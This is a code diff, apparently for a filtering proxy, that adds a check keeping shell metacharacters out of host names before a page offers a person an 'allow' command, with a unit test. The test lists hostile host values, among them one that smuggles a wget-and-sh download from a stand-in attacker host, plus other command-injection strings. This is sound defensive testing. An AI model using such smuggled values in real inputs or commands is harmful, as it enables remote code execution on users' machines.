@@ -49,7 +49,14 @@ fn way_out(session: &Session, judgement: &Judgement, exchange: &Exchange) -> Opt
     let host = exchange.target()?.host();
     let is_by_filter = judgement.filter.is_some() && !judgement.failed;
     let command = &session.worker.command;
-    (is_here && is_by_filter).then(|| format!("{command} allow {host} --for 1h"))
+    (is_here && is_by_filter && is_plain(host)).then(|| format!("{command} allow {host} --for 1h"))
+}
+
+/// Whether a host means nothing else to a shell. A page must not offer a person a command that a
+/// stranger has put together.
+fn is_plain(host: &str) -> bool {
+    let is_plain = |byte: u8| byte.is_ascii_alphanumeric() || b".-_:".contains(&byte);
+    host.bytes().all(is_plain) && !host.starts_with('-')
 }
 
 /// The answer to a client for whose connection there is no room. It is not recorded: the connection
@@ -78,4 +85,41 @@ pub(crate) async fn answer(
     stream.write_all(&encode::response(&response)).await?;
     exchange.add_bytes_down(response.body().len() as u64);
     Ok(())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::is_plain;
+    use crate::target::canonical_host;
+
+    #[test]
+    fn a_host_that_means_something_to_a_shell_is_not_offered() {
+        for host in [
+            "a.example",
+            "xn--bcher-kva.example",
+            "10.0.0.1",
+            "2001:db8::1",
+            "_a.b",
+        ] {
+            assert!(is_plain(host), "{host}");
+        }
+        let hostile = "a;wget${ifs}evil.example;sh${ifs}x.evil.example";
+        assert_eq!(
+            canonical_host(hostile).as_deref(),
+            Ok(hostile),
+            "it is a host"
+        );
+        for host in [
+            hostile,
+            "-rf.example",
+            "$(a)",
+            "a&b",
+            "`a`",
+            "a'b",
+            "a\"b",
+            "*",
+        ] {
+            assert!(!is_plain(host), "{host}");
+        }
+    }
 }
